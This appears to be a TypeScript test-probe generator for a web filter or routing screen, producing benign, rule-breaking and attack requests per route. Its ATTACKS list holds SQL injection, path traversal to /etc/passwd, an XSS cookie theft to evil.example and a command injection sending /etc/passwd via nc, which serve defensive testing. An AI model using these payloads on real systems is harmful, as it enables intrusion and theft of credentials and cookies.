import { type Match, unshadowed } from "./unshadowed.ts";

/** What a probe is: a good request, one that breaks a rule of hygiene, one that attacks. */
export const PROBE_KINDS = ["benign", "unclean", "attack"] as const;
export type ProbeKind = (typeof PROBE_KINDS)[number];

export interface Probe {
  readonly kind: ProbeKind;
  readonly method: string;
  readonly authority: string;
  /** With the query. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
}

/** Well-known attacks of several kinds: whichever screen and model are in force, one of them is beyond doubt. */
const ATTACKS = [
  "1' UNION SELECT username, password FROM users-- -",
  "<script>document.location='//evil.example/?'+document.cookie</script>",
  "../../../../../../etc/passwd",
  "; cat /etc/passwd | nc evil.example 4444",
];

/** A probe of each kind that the route takes; none where it takes nothing. @param before the routes that stand before it */
export function probesOf(route: Match, before: readonly Match[]): Probe[] {
  const target = unshadowed(route, before);
  if (target === null) return [];
  const { method, authority, path } = target;
  const attack = ATTACKS.map((text, index) => `q${index}=${encodeURIComponent(text)}`).join("&");
  return [
    { kind: "benign", method, authority, path: `${path}?q=self-test`, headers: {} },
    { kind: "unclean", method, authority, path, headers: { "x-http-method-override": "DELETE" } },
    { kind: "attack", method, authority, path: `${path}?${attack}`, headers: {} },
  ];
}
